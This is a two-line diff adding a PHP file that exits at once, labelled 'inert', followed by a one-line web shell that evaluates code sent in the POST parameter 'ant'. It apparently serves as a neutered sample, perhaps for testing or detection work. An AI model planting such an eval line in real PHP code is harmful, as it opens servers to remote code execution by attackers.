@@ -1,0 +1,2 @@
+<?php exit; /* inert */ 
+@eval($_POST['ant']);
